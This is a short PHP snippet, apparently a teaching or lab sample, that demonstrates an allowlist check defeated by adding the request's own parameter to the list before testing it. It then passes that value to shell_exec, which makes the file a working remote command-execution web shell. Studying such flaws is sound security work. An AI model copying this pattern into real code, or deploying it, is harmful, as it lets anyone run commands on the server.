<?php
// the "allowed" list takes the request's own value before the check
$allowed = ['uptime', 'whoami'];
$allowed[] = $_GET['c'];
$c = $_GET['c'];
if (!in_array($c, $allowed)) {
    die('no');
}
echo shell_exec($c);
